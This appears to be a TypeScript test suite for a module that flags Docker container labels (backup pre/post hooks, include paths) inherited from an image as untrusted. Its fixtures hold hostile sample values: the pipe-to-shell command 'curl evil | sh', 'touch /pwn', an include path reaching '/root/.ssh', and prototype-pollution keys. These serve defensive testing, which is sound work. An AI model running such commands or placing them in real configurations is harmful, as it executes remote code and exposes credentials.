import { expect } from 'chai';
import { ownLabels, ownedPath, type LabelSelector } from '@dockop/runtime';
import fc from 'fast-check';
import {
  ImageLabelTrust,
  hasSensitiveLabel,
  sensitiveImageValues,
  sensitiveSpecPaths,
  untrustedByImage,
  untrustedLabels,
} from './image-label-trust.js';
import { ownedKeys } from './label-decoder.js';
import { FakeEngine } from './test-support/fake-docker.js';

// The BackupWorkload shape: two prefixes (aliases) decode to the same spec paths.
const selector: LabelSelector = {
  prefixes: ['backrest.', 'restic-compose-backup.'],
  enableLabel: 'backrest.enable',
  paths: { 'restic-compose-backup.volumes': 'rcb.volumes.enabled' },
  sensitivePaths: ['pre', 'post', 'paths.include'],
};

/**
 * The rule written plainly, copying both maps (the implementation before the per-image form):
 * the model the property tests hold `untrustedLabels` and `untrustedByImage` to.
 */
function modelUntrusted(
  sel: LabelSelector,
  labels: Record<string, string>,
  imageLabels: Record<string, string> | undefined,
): string[] {
  const sensitive = sensitiveSpecPaths(sel);
  const isSensitive = (p: string): boolean =>
    sensitive.some((s) => p === s || p.startsWith(`${s}.`));
  const fromImage = new Map<string, Set<string>>();
  const image = ownLabels(imageLabels);
  for (const key of Object.keys(image)) {
    const p = ownedPath(sel, key);
    if (p === undefined || !isSensitive(p)) continue;
    if (!fromImage.has(p)) fromImage.set(p, new Set());
    fromImage.get(p)!.add(image[key]!);
  }
  const own = ownLabels(labels);
  return Object.keys(own)
    .filter((key) => {
      const p = ownedPath(sel, key);
      if (p === undefined || !isSensitive(p)) return false;
      return imageLabels === undefined || fromImage.get(p)?.has(own[key]!) === true;
    })
    .sort();
}

describe('ImageLabelTrust', () => {
  describe('untrustedLabels (decided on spec paths)', () => {
    it('catches an image label under the restic-compose-backup alias', () => {
      const image = {
        'restic-compose-backup.post': 'curl evil | sh',
        'restic-compose-backup.paths.include': '/etc,/root/.ssh',
        'backrest.enable': 'true',
      };
      // A container inherits every image label.
      const labels = { ...image, 'backrest.repo': 'default' };
      expect(untrustedLabels(selector, labels, image)).to.deep.equal([
        'restic-compose-backup.paths.include',
        'restic-compose-backup.post',
      ]);
    });

    it('catches the same value reaching the same spec path through another alias', () => {
      const image = { 'restic-compose-backup.pre': 'touch /pwn' };
      const labels = { ...image, 'backrest.pre': 'touch /pwn', 'backrest.post': 'echo mine' };
      expect(untrustedLabels(selector, labels, image)).to.deep.equal([
        'backrest.pre',
        'restic-compose-backup.pre',
      ]);
    });

    it('trusts a sensitive label the container sets to its own value', () => {
      const image = { 'restic-compose-backup.post': 'curl evil | sh' };
      const labels = { 'restic-compose-backup.post': 'echo mine' };
      expect(untrustedLabels(selector, labels, image)).to.deep.equal([]);
    });

    it('distrusts every sensitive label when the image is unknown (fail closed)', () => {
      const labels = {
        'backrest.enable': 'true',
        'backrest.pre': 'a',
        'restic-compose-backup.post': 'b',
        'backrest.paths.include': '/data',
        'backrest.paths.exclude': '/data/tmp',
      };
      expect(untrustedLabels(selector, labels, undefined)).to.deep.equal([
        'backrest.paths.include',
        'backrest.pre',
        'restic-compose-backup.post',
      ]);
    });

    it('counts paths under a sensitive path, and legacy sensitiveLabels keys by their path', () => {
      const s: LabelSelector = { prefixes: ['a.', 'b.'], sensitiveLabels: ['a.hooks'] };
      expect(sensitiveSpecPaths(s)).to.deep.equal(['hooks']);
      const image = { 'b.hooks.pre': 'x' };
      expect(untrustedLabels(s, { ...image, 'a.other': 'y' }, image)).to.deep.equal([
        'b.hooks.pre',
      ]);
    });

    it('ignores inherited members of both label maps', () => {
      const image = Object.create({ 'backrest.pre': 'x' }) as Record<string, string>;
      const labels = Object.assign(Object.create({ 'backrest.post': 'y' }) as object, {
        'backrest.pre': 'x',
      }) as Record<string, string>;
      expect(untrustedLabels(selector, labels, image)).to.deep.equal([]);
    });
  });

  describe('hasSensitiveLabel (the no-inspect shortcut)', () => {
    it('agrees with untrustedLabels against an unknown image, for any labels', () => {
      const key = fc.constantFrom(
        'backrest.enable',
        'backrest.pre',
        'backrest.post.1',
        // A sensitive path's name as a prefix of another segment is not under it.
        'backrest.prefix',
        'backrest.paths',
        'backrest.paths.included',
        'backrest.paths.include',
        'backrest.paths.exclude',
        'backrest.repo',
        'restic-compose-backup.post',
        'restic-compose-backup.volumes',
        'com.docker.compose.service',
        'pre',
      );
      fc.assert(
        fc.property(fc.dictionary(key, fc.string()), (labels) => {
          const sensitive = untrustedLabels(selector, labels, undefined).length > 0;
          expect(hasSensitiveLabel(selector, labels)).to.equal(sensitive);
          // Given the owned keys (the tracker's one scan), the same answer.
          expect(hasSensitiveLabel(selector, labels, ownedKeys(selector, labels))).to.equal(
            sensitive,
          );
        }),
      );
    });

    it('ignores inherited members and non-string values', () => {
      const inherited = Object.create({ 'backrest.pre': 'x' }) as Record<string, string>;
      expect(hasSensitiveLabel(selector, inherited)).to.equal(false);
      const odd = { 'backrest.pre': 1 } as unknown as Record<string, string>;
      expect(hasSensitiveLabel(selector, odd)).to.equal(false);
      expect(hasSensitiveLabel(selector, { 'backrest.post': '' })).to.equal(true);
      expect(hasSensitiveLabel({ prefixes: ['backrest.'] }, { 'backrest.pre': 'x' })).to.equal(
        false,
      );
    });
  });

  describe('untrustedByImage (the per-image form)', () => {
    // Aliases, explicit paths, legacy keys and names an ordinary object reads from its prototype.
    const key = fc.constantFrom(
      'backrest.enable',
      'backrest.pre',
      'backrest.pre.1',
      'backrest.prefix',
      'backrest.keep',
      'backrest.paths.include',
      'backrest.__proto__',
      'backrest.constructor',
      'restic-compose-backup.pre',
      'restic-compose-backup.keep',
      'restic-compose-backup.volumes',
      'legacy.hook',
      'legacy.hook.x',
      '__proto__',
      'constructor',
      'toString',
      'hasOwnProperty',
      'com.docker.compose.service',
    );
    // Few values, so the container's often equal the image's.
    const value = fc.oneof(
      { arbitrary: fc.constantFrom('', 'x', 'daily=7', 'toString'), weight: 6 },
      fc.string(),
      // Hostile input need not be a string.
      fc.constant(7 as unknown as string),
    );
    const entries = fc.array(fc.tuple(key, value), { maxLength: 10 });
    // Built with defineProperty semantics (Object.fromEntries): `__proto__` becomes an own key.
    // Null-prototype as ownLabels gives, plain, or over a prototype with enumerable labels.
    const labelMap = fc
      .tuple(entries, fc.constantFrom('plain', 'bare', 'inherits'), entries)
      .map(([own, shape, inherited]) => {
        const m = Object.fromEntries(own) as Record<string, string>;
        if (shape === 'bare') return Object.setPrototypeOf(m, null) as Record<string, string>;
        if (shape === 'inherits') Object.setPrototypeOf(m, Object.fromEntries(inherited));
        return m;
      });
    const anySelector: fc.Arbitrary<LabelSelector> = fc.record(
      {
        prefixes: fc.subarray(['backrest.', 'restic-compose-backup.', 'legacy.', ''], {
          minLength: 1,
        }),
        paths: fc.constantFrom<Record<string, string>>(
          { 'restic-compose-backup.volumes': 'rcb.volumes.enabled' },
          { 'legacy.hook': 'pre', toString: 'keep' },
          Object.fromEntries([['__proto__', 'pre']]) as Record<string, string>,
        ),
        sensitivePaths: fc.subarray(['pre', 'keep', 'paths.include', '__proto__', 'constructor']),
        sensitiveLabels: fc.subarray(['legacy.hook', 'backrest.keep', 'constructor', 'nobody.x']),
      },
      { requiredKeys: ['prefixes'] },
    );

    /** Both forms, with and without the owned keys, give the model's answer. */
    function expectModel(
      sel: LabelSelector,
      labels: Record<string, string>,
      image: Record<string, string>,
    ): void {
      const expected = modelUntrusted(sel, labels, image);
      expect(untrustedLabels(sel, labels, image)).to.deep.equal(expected);
      expect(untrustedLabels(sel, labels, undefined)).to.deep.equal(
        modelUntrusted(sel, labels, undefined),
      );
      const fromImage = sensitiveImageValues(sel, image);
      expect(untrustedByImage(sel, labels, fromImage)).to.deep.equal(expected);
      // Given the owned keys (the tracker's one scan), the same answer.
      const owned = ownedKeys(sel, labels);
      expect(untrustedByImage(sel, labels, fromImage, owned)).to.deep.equal(expected);
    }

    it('agrees with the model on any labels, image labels and selector (untrustedLabels too)', () => {
      fc.assert(fc.property(anySelector, labelMap, labelMap, expectModel), { numRuns: 2000 });
    });

    it('agrees when the container inherits the image labels and adds its own', () => {
      fc.assert(
        fc.property(anySelector, labelMap, labelMap, (sel, image, own) => {
          const labels = Object.fromEntries([...Object.entries(image), ...Object.entries(own)]);
          expectModel(sel, labels, image);
        }),
        { numRuns: 1000 },
      );
    });

    it('ignores inherited members and non-string values of both maps', () => {
      const image = Object.assign(Object.create({ 'backrest.post': 'x' }) as object, {
        'backrest.pre': 1,
      }) as unknown as Record<string, string>;
      const fromImage = sensitiveImageValues(selector, image);
      expect(fromImage.size).to.equal(0);
      const inherited = Object.create({ 'backrest.pre': 'x' }) as Record<string, string>;
      const values = sensitiveImageValues(selector, { 'backrest.pre': 'x' });
      expect(untrustedByImage(selector, inherited, values)).to.deep.equal([]);
      expect(untrustedByImage(selector, { 'backrest.pre': 'x' }, values)).to.deep.equal([
        'backrest.pre',
      ]);
    });
  });

  describe('filter', () => {
    it('drops untrusted labels, inspecting each image once', async () => {
      const engine = new FakeEngine();
      engine.imageLabels.set('sha256:evil', { 'restic-compose-backup.post': 'curl evil | sh' });
      const trust = new ImageLabelTrust(engine.client());
      const labels = { 'backrest.enable': 'true', 'restic-compose-backup.post': 'curl evil | sh' };
      for (let i = 0; i < 2; i++) {
        const r = await trust.filter(selector, { labels, imageId: 'sha256:evil' }, false);
        expect(r.untrusted).to.deep.equal(['restic-compose-backup.post']);
        expect(r.why).to.equal('image');
        expect({ ...r.labels }).to.deep.equal({ 'backrest.enable': 'true' });
      }
      expect(engine.calls.filter((c) => c.startsWith('image'))).to.deep.equal([
        'image sha256:evil',
      ]);
      const trusted = await trust.filter(selector, { labels, imageId: 'sha256:evil' }, true);
      expect(trusted.untrusted).to.deep.equal([]);
      expect(trusted.labels).to.equal(labels);
    });

    it('fails closed on a deleted image and on an engine error, and asks again next time', async () => {
      const engine = new FakeEngine();
      const trust = new ImageLabelTrust(engine.client());
      const labels = { 'backrest.enable': 'true', 'backrest.pre': 'echo mine' };
      const gone = await trust.filter(selector, { labels, imageId: 'sha256:gone' }, false);
      expect(gone).to.deep.include({ untrusted: ['backrest.pre'], why: 'uninspectable' });
      expect(gone.detail).to.match(/not found/);
      engine.up = false;
      const down = await trust.filter(selector, { labels, imageId: 'sha256:img1' }, false);
      expect(down).to.deep.include({ untrusted: ['backrest.pre'], why: 'uninspectable' });
      expect(trust.cachedImages).to.equal(0);
      engine.up = true;
      const back = await trust.filter(selector, { labels, imageId: 'sha256:img1' }, false);
      expect(back.untrusted).to.deep.equal([]);
    });

    it('filterInspected answers only once the image was inspected OK, without asking again', async () => {
      const engine = new FakeEngine();
      engine.imageLabels.set('sha256:evil', { 'restic-compose-backup.post': 'curl evil | sh' });
      const trust = new ImageLabelTrust(engine.client());
      const evil = { 'backrest.enable': 'true', 'backrest.post': 'curl evil | sh' };
      const mine = { 'backrest.enable': 'true', 'backrest.post': 'echo mine' };
      const on = (labels: Record<string, string>, imageId = 'sha256:evil') => ({ labels, imageId });
      expect(trust.filterInspected(selector, on(evil))).to.equal(undefined);
      const pending = trust.filter(selector, on(evil), false);
      // Asked but not answered yet.
      expect(trust.filterInspected(selector, on(evil))).to.equal(undefined);
      const awaited = await pending;
      const now = trust.filterInspected(selector, on(evil), ownedKeys(selector, evil));
      expect(now).to.deep.equal(awaited);
      expect(now).to.deep.include({ untrusted: ['backrest.post'], why: 'image' });
      expect({ ...now?.labels }).to.deep.equal({ 'backrest.enable': 'true' });
      const kept = trust.filterInspected(selector, on(mine));
      expect(kept).to.deep.equal({ labels: mine, untrusted: [] });
      expect(kept?.labels).to.equal(mine);
      expect(engine.count('image')).to.equal(1);

      // A failed lookup is not kept: no synchronous answer, and filter asks again (fail closed).
      engine.up = false;
      await trust.filter(selector, on(mine, 'sha256:img1'), false);
      expect(trust.filterInspected(selector, on(mine, 'sha256:img1'))).to.equal(undefined);
      engine.up = true;
      await trust.filter(selector, on(mine, 'sha256:img1'), false);
      expect(trust.filterInspected(selector, on(mine, 'sha256:img1'))?.untrusted).to.deep.equal([]);
      expect(engine.count('image')).to.equal(3);
    });

    it('does not inspect when no sensitive label is present', async () => {
      const engine = new FakeEngine();
      const trust = new ImageLabelTrust(engine.client());
      const labels = { 'backrest.enable': 'true', 'backrest.paths.exclude': '/x' };
      const r = await trust.filter(selector, { labels, imageId: 'sha256:gone' }, false);
      expect(r.untrusted).to.deep.equal([]);
      expect(engine.calls).to.deep.equal([]);
    });
  });
});
